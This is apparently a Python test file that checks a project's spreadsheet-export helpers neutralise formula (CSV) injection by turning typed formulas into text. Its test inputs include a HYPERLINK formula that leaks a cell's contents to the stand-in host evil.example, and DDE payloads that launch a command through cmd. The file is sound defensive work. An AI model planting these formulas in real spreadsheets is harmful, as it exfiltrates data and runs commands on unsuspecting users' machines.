import pytest

from incluye.core.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Ver")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_it_turns_a_formula_into_text(typed):
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize(
    "value", ["José Ángel", "+502 5555-1234", "-3", "-3.5", "(502) 5555 1234", 12, -4.5, None]
)
def test_it_leaves_names_numbers_and_phones_as_they_are(value):
    assert safe_cell(value) == value


def test_it_neutralizes_each_cell_of_a_row():
    assert safe_row(["Ana", "=1+1", 3]) == ["Ana", "'=1+1", 3]


def test_exported_spreadsheets_carry_text_where_a_formula_was_typed():
    import csv
    import io

    from openpyxl import load_workbook

    from incluye.impact.exports import to_csv, to_xlsx

    rows = [["=cmd|' /C calc'!A0", 5], ["Alianza", -3]]
    book = load_workbook(io.BytesIO(to_xlsx(["nombre", "valor"], rows, title="datos")))
    cells = [[c.value for c in row] for row in book.active.iter_rows(min_row=2)]
    assert cells == [["'=cmd|' /C calc'!A0", 5], ["Alianza", -3]]
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
    table = list(csv.reader(io.StringIO(to_csv(["nombre", "valor"], rows).decode("utf-8-sig"))))
    assert table[1] == ["'=cmd|' /C calc'!A0", "5"]
